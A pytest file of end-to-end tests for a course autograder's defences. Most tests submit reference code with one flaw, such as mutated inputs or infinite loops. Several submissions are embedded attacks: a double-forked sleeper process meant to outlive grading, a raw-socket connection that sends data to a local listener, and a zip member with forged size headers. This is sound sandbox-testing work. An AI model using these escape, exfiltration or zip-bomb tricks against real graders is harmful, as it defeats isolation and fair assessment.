"""End-to-end tests of the grader's defences: each submits a mistake or an attack and checks what it costs.

Every submission is the reference solution with one change, graded through the command line, so a
defence that failed would show up as points kept, points lost elsewhere, a results file or CSV not
written, or a process or a connection that should not exist.
"""

import csv
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile

import pytest
from test_autograder import (
    LAYERS,
    REPO_ROOT,
    make_submission,
    per_function,
    reference_sources,
    root_only,
    run_grader,
    validate_results,
)

from staff.autograder.package import build_autograder_zip
from staff.autograder.sandbox import build_sandbox

pytestmark = pytest.mark.slow
FC_NET = "cs231n/classifiers/fc_net.py"
OPTIM = "cs231n/optim.py"
GRAPH_AND_OPTIM = {"sgd_momentum", "rmsprop", "adam", "Graph (lecture circuits)"} | {
    f"{g}.backward" for g in ("Add", "Multiply", "Max", "AddConst", "MulConst", "Exp", "Reciprocal", "Sigmoid")
}


def failed_outputs(results, function):
    """The outputs of the failed tests of ``function``."""
    return [t["output"] for t in results["tests"] if t["tags"][0] == function and t["status"] == "failed"]


def grader(*args, **kwargs):
    """Run ``python -m staff.autograder ARGS`` from the repository root; return the CompletedProcess."""
    cmd = [sys.executable, "-m", "staff.autograder", *map(str, args)]
    return subprocess.run(cmd, cwd=REPO_ROOT, capture_output=True, text=True, timeout=900, **kwargs)


# -- 1. A function that changes its inputs loses the points of every test where it does -------------

MUTATES = {
    LAYERS: """
        def relu_forward(x):
            x[x < 0] = 0  # writes into the caller's array
            return x.copy(), x

        _affine_backward = affine_backward

        def affine_backward(dout, cache):
            grads = _affine_backward(dout, cache)
            dout[...] = 0  # clears the upstream gradient after use
            return grads
    """,
    OPTIM: """
        _adam = adam

        def adam(w, dw, config=None):
            next_w, config = _adam(w, dw, config)
            w[...] = next_w  # updates the weights in place besides returning them
            return w, config
    """,
}


def test_a_function_that_changes_its_inputs_loses_those_tests_with_a_message_naming_the_input(tmp_path):
    results = run_grader(make_submission(tmp_path / "sub", append=MUTATES), tmp_path / "r" / "results.json")
    got, full = per_function(results), per_function(results, "max_score")
    for function, argument in [("relu_forward", "x"), ("affine_backward", "dout"), ("adam", "w")]:
        assert got[function] == 0, function
        outputs = failed_outputs(results, function)
        assert outputs and all(f"{function} modified its input {argument} in place" in o for o in outputs), outputs
    # The optimizers' own state in config may change: sgd_momentum and rmsprop keep every point.
    for function in GRAPH_AND_OPTIM - {"adam"}:
        assert got[function] == full[function], function


# -- 2. Every promise of the docstrings and TODOs has a graded test ---------------------------------

BREAKS_PROMISES = {
    LAYERS: """
        def sigmoid_forward(x):
            out = 1 / (1 + np.exp(-x))  # overflows for x = -1000
            return out, out

        def tanh_forward(x):
            e, f = np.exp(x), np.exp(-x)
            out = (e - f) / (e + f)  # inf / inf for large inputs
            return out, out

        def relu_forward(x):
            return np.maximum(x, 0).astype(np.float64), x  # float32 in, float64 out

        def relu_backward(dout, cache):
            return np.where(cache >= 0, dout, 0).astype(cache.dtype)  # lets the gradient through x = 0

        def softmax_loss(x, y):
            probs = np.exp(x) / np.exp(x).sum(axis=1, keepdims=True)  # no shift: exp(1e4) is inf
            N = x.shape[0]
            loss = -np.log(probs[np.arange(N), y]).mean()
            dx = probs.copy()
            dx[np.arange(N), y] -= 1
            return float(loss), (dx / N).astype(x.dtype)
    """,
    OPTIM: """
        _rmsprop = rmsprop

        def rmsprop(w, dw, config=None):
            next_w, config = _rmsprop(w, dw, config)
            return next_w.astype(np.float64), config  # float32 in, float64 out
    """,
    FC_NET: """
        def _loss(self, X, y=None):
            W1, b1, W2, b2 = (self.params[k] for k in ("W1", "b1", "W2", "b2"))
            hidden = np.maximum(X @ W1 + b1, 0)  # X is not flattened into rows
            scores = hidden @ W2 + b2
            if y is None:
                return scores
            loss, dscores = softmax_loss(scores, y)
            loss += 0.5 * self.reg * ((W1**2).sum() + (W2**2).sum())
            dhidden = dscores @ W2.T * (hidden > 0)
            grads = {"W1": X.T @ dhidden + self.reg * W1, "b1": dhidden.sum(0)}
            grads.update(W2=hidden.T @ dscores + self.reg * W2, b2=dscores.sum(0))
            return loss, grads

        TwoLayerNet.loss = _loss
    """,
}
PROMISES = {
    # function: (words of the one test it fails, words of that test's message)
    "sigmoid_forward": ("inputs of +-1000", "overflow"),
    "tanh_forward": ("inputs of +-1000", "tanh_forward"),
    "relu_forward": ("float32 inputs give float32 outputs", "dtype float64"),
    "relu_backward": ("exactly 0", "relu_backward"),
    "softmax_loss": ("scores near 1e4", "softmax_loss"),
    "rmsprop": ("float32 w and dw", "dtype float64"),
    "TwoLayerNet.loss": ("of shape (N, d_1, ..., d_k)", "TwoLayerNet"),
}


def test_each_broken_promise_costs_its_own_visible_test(tmp_path):
    results = run_grader(make_submission(tmp_path / "sub", append=BREAKS_PROMISES), tmp_path / "r" / "results.json")
    for function, (test_words, message_words) in PROMISES.items():
        failed = [t for t in results["tests"] if t["tags"][0] == function and t["status"] == "failed"]
        assert len(failed) == 1, (function, [(t["name"], t["output"]) for t in failed])
        assert test_words in failed[0]["name"] and failed[0]["visibility"] == "visible", failed[0]
        assert message_words in failed[0]["output"], failed[0]


# -- 3. A raising __init__ costs only __init__, and messages name the function that raised ----------


def _raise_in(source, cls, method, statement):
    """``source`` with ``statement`` as the first line of ``cls.method``'s body."""
    lines = source.splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if line.startswith(f"class {cls}("))
    i = next(i for i in range(start, len(lines)) if lines[i].lstrip().startswith(f"def {method}("))
    while not lines[i].rstrip().endswith(":"):
        i += 1
    indent = " " * (len(lines[i]) - len(lines[i].lstrip()) + 4)
    return "".join(lines[: i + 1] + [f"{indent}{statement}\n"] + lines[i + 1 :])


def test_a_raising_init_costs_only_init_and_is_named(tmp_path):
    source = _raise_in(reference_sources()[FC_NET], "TwoLayerNet", "__init__", 'raise RuntimeError("not finished")')
    sub = make_submission(tmp_path / "sub", replace={FC_NET: source})
    results = run_grader(sub, tmp_path / "r" / "results.json", "-k", "test_fc_net")
    got, full = per_function(results), per_function(results, "max_score")
    assert got["TwoLayerNet.__init__"] == 0
    assert all(
        o.startswith("TwoLayerNet.__init__ raised RuntimeError: not finished")
        for o in failed_outputs(results, "TwoLayerNet.__init__")
    )
    assert got["TwoLayerNet.loss"] == full["TwoLayerNet.loss"]


def test_an_error_inside_a_net_names_the_layer_that_raised(tmp_path):
    broken = {LAYERS: "def relu_forward(x):\n    raise TypeError('relu is not written yet')\n"}
    sub = make_submission(tmp_path / "sub", append=broken)
    results = run_grader(sub, tmp_path / "r" / "results.json", "-k", "FullyConnectedNet and loss")
    outputs = failed_outputs(results, "FullyConnectedNet.loss")
    assert outputs and all(
        o.startswith("relu_forward raised TypeError: relu is not written yet (cs231n/layers.py, line ")
        and "while grading FullyConnectedNet.loss" in o
        for o in outputs
    ), outputs


# -- 4. A function that hangs fails at once after its first timeout, and starves nothing -----------

HANGS = """
    def spin_forever(*args, **kwargs):
        while True:
            pass

    for _name in [f"{layer}_{d}" for layer in ("affine", "relu", "leaky_relu", "sigmoid", "tanh")
                  for d in ("forward", "backward")] + ["svm_loss", "softmax_loss"]:
        globals()[_name] = spin_forever
"""


def test_hanging_functions_fail_fast_and_leave_the_time_to_the_others(tmp_path):
    sub = make_submission(tmp_path / "sub", append={LAYERS: HANGS})
    start = time.monotonic()
    results = run_grader(sub, tmp_path / "r" / "results.json", "--budget", "30", timeout=1)
    elapsed = time.monotonic() - start
    got, full = per_function(results), per_function(results, "max_score")
    for function in GRAPH_AND_OPTIM:
        assert got[function] == full[function], (function, failed_outputs(results, function))
    for function in ("affine_forward", "softmax_loss", "tanh_backward"):
        first, *rest = failed_outputs(results, function)
        assert first.startswith(f"{function} did not finish within 1 s"), first
        assert rest and all(o.startswith(f"{function} did not finish within 1 s in an earlier test") for o in rest)
    # A net's timeout names the function it was running when it was stopped.
    first = failed_outputs(results, "FullyConnectedNet.loss")[0]
    assert "(it was running spin_forever, cs231n/layers.py, line " in first, first
    # One timeout per hanging function (and per net), not one per test.
    assert elapsed < 60, elapsed


# -- 5. No process of a call outlives it -------------------------------------------------------------


def _processes_mentioning(text):
    """Pids of the processes whose command line holds ``text``."""
    found = []
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if text.encode() in f.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def _end(pids):
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


UNIX_SOCKET = """
    def _unix_socket(token, listen):
        import ctypes, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(1, 1, 0)  # AF_UNIX, SOCK_STREAM
        address = struct.pack("H", 1) + b"\\0" + token.encode()
        buf = ctypes.create_string_buffer(address, len(address))
        if listen:
            return libc.bind(fd, buf, len(address)) == 0 and libc.listen(fd, 1) == 0
        return libc.connect(fd, buf, len(address)) == 0
"""
LEAVES_A_SLEEPER = (
    UNIX_SOCKET
    + """
    _affine_forward = affine_forward

    def affine_forward(x, w, b):
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                _unix_socket("{token}", listen=True)
                time.sleep(120)
            os._exit(0)
        return _affine_forward(x, w, b)
"""
)
MEETS_A_SLEEPER = (
    UNIX_SOCKET
    + """
    _affine_forward = affine_forward

    def affine_forward(x, w, b):
        if _unix_socket("{token}", listen=False):
            raise RuntimeError("met a process of an earlier submission")
        return _affine_forward(x, w, b)
"""
)


@root_only
def test_no_process_of_a_call_survives_it(tmp_path):
    token = f"cs231n-sleeper-{os.getpid()}-{time.time_ns()}"
    sub = make_submission(tmp_path / "sub", append={LAYERS: LEAVES_A_SLEEPER.format(token=token)})
    env = dict(os.environ, TMPDIR=str(tmp_path))
    try:
        run_grader(sub, tmp_path / "r" / "results.json", "-k", "affine and forward", env=env)
        time.sleep(0.5)
        survivors = _processes_mentioning(str(tmp_path))
        assert survivors == [], f"processes of the grading outlived it: {survivors}"
    finally:
        _end(_processes_mentioning(str(tmp_path)))


@root_only
def test_a_later_submission_in_a_batch_never_meets_an_earlier_ones_process(tmp_path):
    token = f"cs231n-sleeper-{os.getpid()}-{time.time_ns()}"
    folder = tmp_path / "submissions"
    make_submission(folder / "a", append={LAYERS: LEAVES_A_SLEEPER.format(token=token)})
    make_submission(folder / "b", append={LAYERS: MEETS_A_SLEEPER.format(token=token)})
    env = dict(os.environ, TMPDIR=str(tmp_path))
    try:
        grader("batch", folder, "--csv", tmp_path / "scores.csv", "--timeout", 30, env=env)
        with open(tmp_path / "scores.csv", newline="") as f:
            rows = {row["submission"]: row for row in csv.DictReader(f)}
        assert float(rows["b"]["affine_forward"]) == float(rows["a"]["affine_forward"]) > 0
    finally:
        _end(_processes_mentioning(str(tmp_path)))


# -- 6. A zip member is never read beyond the size cap, whatever its header says ---------------------


def _lie_about_size(zip_path, member, claimed):
    """Rewrite the uncompressed size that both headers of ``member`` give as ``claimed``."""
    data = bytearray(zip_path.read_bytes())
    name = member.encode()
    local = data.find(name) - 30  # the local header's fixed part is 30 bytes, then the name
    central = data.rfind(name) - 46  # the central directory record's is 46
    assert data[local : local + 4] == b"PK\x03\x04" and data[central : central + 4] == b"PK\x01\x02"
    data[local + 22 : local + 26] = claimed.to_bytes(4, "little")
    data[central + 24 : central + 28] = claimed.to_bytes(4, "little")
    zip_path.write_bytes(bytes(data))


def test_a_zip_member_with_a_lying_header_costs_only_that_file(tmp_path):
    sources = reference_sources()
    zip_path = tmp_path / "submission.zip"
    with zipfile.ZipFile(zip_path, "w", zipfile.ZIP_DEFLATED) as zf:
        for rel, text in sources.items():
            zf.writestr(rel, text if rel != OPTIM else "#" * (64 << 20))  # 64 MiB that deflate to 64 KiB
    _lie_about_size(zip_path, OPTIM, 1000)
    results = run_grader(zip_path, tmp_path / "r" / "results.json")
    got, full = per_function(results), per_function(results, "max_score")
    assert OPTIM in results["output"] and got["affine_forward"] == full["affine_forward"] > 0
    for function in full:
        expected = 0 if function in ("sgd_momentum", "rmsprop", "adam") else full[function]
        assert got[function] == expected, function


# -- 7. Given files come from an allow-list -----------------------------------------------------------

STRAYS = [
    "cs231n/layers.py.orig",
    "cs231n/layers_backup.py",
    "cs231n/.#fc_net.py",
    "cs231n/notes.txt",
    "cs231n/__pycache__/solution.cpython-311.pyc",
]


def test_stray_files_of_the_instructor_copy_reach_neither_the_sandbox_nor_the_autograder_zip(tmp_path):
    repo = tmp_path / "repo"
    for rel in ["cs231n", "staff"]:
        shutil.copytree(REPO_ROOT / rel, repo / rel, ignore=shutil.ignore_patterns("__pycache__", "build"))
    shutil.copy(REPO_ROOT / "requirements.txt", repo / "requirements.txt")
    for rel in STRAYS:
        (repo / rel).parent.mkdir(exist_ok=True)
        (repo / rel).write_text("SOLUTION = 'the reference answers'\n")
    sandbox, _, _ = build_sandbox(repo, make_submission(tmp_path / "sub"), parent=tmp_path)
    in_sandbox = {p.relative_to(sandbox).as_posix() for p in sandbox.rglob("*")}
    with zipfile.ZipFile(build_autograder_zip(repo, tmp_path / "autograder.zip")) as zf:
        in_zip = set(zf.namelist())
    for rel in STRAYS:
        assert rel not in in_sandbox and rel not in in_zip, rel
    # The sandbox holds bytecode the grader compiled from its own files only; the zip holds none.
    assert {p for p in in_sandbox if p.endswith(".pyc")} == {
        f"{p.rsplit('/', 1)[0]}/__pycache__/{p.rsplit('/', 1)[1][:-3]}.{sys.implementation.cache_tag}.pyc"
        for p in in_sandbox
        if p.endswith(".py")
    }
    assert not any("__pycache__" in p or p.endswith(".pyc") for p in in_zip)


# -- 8. Runs without isolation say so, on stderr and in the CSV --------------------------------------


def test_a_run_without_isolation_warns_on_stderr_and_in_the_csv(tmp_path):
    folder = tmp_path / "submissions"
    make_submission(folder / "alice")
    proc = grader("batch", folder, "--csv", tmp_path / "scores.csv", "--no-isolation", "--timeout", 30)
    assert "not isolated" in proc.stderr
    with open(tmp_path / "scores.csv", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert "not isolated" in row["note"] and float(row["total"]) == float(row["max_score"]) > 0
    one = grader("grade", folder / "alice", "--results", tmp_path / "r.json", "--no-isolation", "-k", "test_optim")
    assert "not isolated" in one.stderr


# -- 9. Results are written whatever happens to stdout -----------------------------------------------


def _with_closed_stdout(*args):
    """Run the grader with its stdout a pipe whose reader is already gone (as ``| head`` leaves it)."""
    cmd = [sys.executable, "-m", "staff.autograder", *map(str, args)]
    proc = subprocess.Popen(cmd, cwd=REPO_ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    proc.stdout.close()
    return proc.wait(timeout=900)


def test_a_closed_stdout_changes_neither_results_json_nor_the_csv(tmp_path):
    sub = make_submission(tmp_path / "submissions" / "alice")
    results_path = tmp_path / "r" / "results.json"
    _with_closed_stdout("grade", sub, "--results", results_path, "-k", "test_optim")
    results = json.loads(results_path.read_text())
    validate_results(results)
    assert results["tests"] and results["score"] == sum(t["max_score"] for t in results["tests"])
    csv_path = tmp_path / "scores.csv"
    _with_closed_stdout("batch", tmp_path / "submissions", "--csv", csv_path, "--timeout", 30)
    with open(csv_path, newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert float(row["total"]) == float(row["max_score"]) > 0


# -- 10. Student code has no network -------------------------------------------------------------------

CONNECTS = """
    _affine_forward = affine_forward

    def affine_forward(x, w, b):
        import ctypes, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
        address = struct.pack("=H", 2) + struct.pack("!H", {port}) + bytes([127, 0, 0, 1]) + bytes(8)
        libc.connect(fd, ctypes.create_string_buffer(address, len(address)), len(address))
        libc.send(fd, b"hidden inputs", 13, 0)
        return _affine_forward(x, w, b)
"""


@pytest.mark.parametrize(
    "isolation",
    [
        pytest.param((), id="isolated", marks=root_only),
        # Without namespaces (as where the kernel refuses them) the seccomp filter alone must hold.
        pytest.param(("--no-isolation",), id="seccomp_only"),
    ],
)
def test_student_code_cannot_open_a_connection(tmp_path, isolation):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    accepted, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                accepted.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        port = server.getsockname()[1]
        sub = make_submission(tmp_path / "sub", append={LAYERS: CONNECTS.format(port=port)})
        run_grader(sub, tmp_path / "r" / "results.json", "-k", "affine and forward", *isolation)
    finally:
        stop.set()
        thread.join()
        server.close()
        for conn in accepted:
            conn.close()
    assert accepted == []


# -- Feedback a student can act on --------------------------------------------------------------------


def test_messages_name_functions_one_way_and_speak_plainly(tmp_path):
    code = """
        def affine_forward(x, w, b):
            return object(), (x, w, b)

        def affine_backward(dout, cache):
            raise NotImplementedError("affine_backward is not written yet")
    """
    sub = make_submission(tmp_path / "sub", append={LAYERS: code})
    results = run_grader(sub, tmp_path / "r" / "results.json", "-k", "test_layers and affine")
    forward, backward = failed_outputs(results, "affine_forward"), failed_outputs(results, "affine_backward")
    assert forward and all(
        o.startswith("affine_forward returned something that is not plain data") and "return numpy arrays" in o
        for o in forward
    ), forward
    assert backward and all(o.startswith("affine_backward raised NotImplementedError") for o in backward), backward
    # Functions go by their own name (``affine_backward``, ``TwoLayerNet.loss``), never by module.
    assert not any("layers.affine" in t["output"] for t in results["tests"])


def test_every_ignored_part_of_a_submission_gets_a_note(tmp_path):
    sub = make_submission(tmp_path / "sub")
    extras = {
        "tests/test_layers.py": "def test_nothing():\n    pass\n",
        "cs231n/gradient_check.py": "def rel_error(x, y):\n    return 0.0\n",
        "notebooks/backprop.ipynb": "{}\n",
        "layer.py": "# a misnamed copy of layers.py\n",
        "README.md": "my notes\n",
    }
    for rel, text in extras.items():
        (sub / rel).parent.mkdir(parents=True, exist_ok=True)
        (sub / rel).write_text(text)
    results = run_grader(sub, tmp_path / "r" / "results.json", "-k", "test_optim")
    notes = results["output"]
    for rel in extras:
        assert rel in notes, (rel, notes)
    assert "did you mean cs231n/layers.py?" in notes


def test_batch_jobs_give_the_scores_of_one_by_one_grading(tmp_path):
    folder = tmp_path / "submissions"
    make_submission(folder / "alice")
    make_submission(folder / "bob", append={LAYERS: "def tanh_backward(dout, cache):\n    return dout * 1.0\n"})
    make_submission(folder / "carol", append=MUTATES)
    tables = []
    for jobs in (1, 3):
        csv_path = tmp_path / f"jobs{jobs}.csv"
        grader("batch", folder, "--csv", csv_path, "--jobs", jobs, "--timeout", 30)
        with open(csv_path, newline="") as f:
            tables.append(list(csv.DictReader(f)))
    assert [row["submission"] for row in tables[0]] == ["alice", "bob", "carol"]
    assert tables[0] == tables[1]
    assert float(tables[0][1]["tanh_backward"]) == 0 < float(tables[0][0]["tanh_backward"])
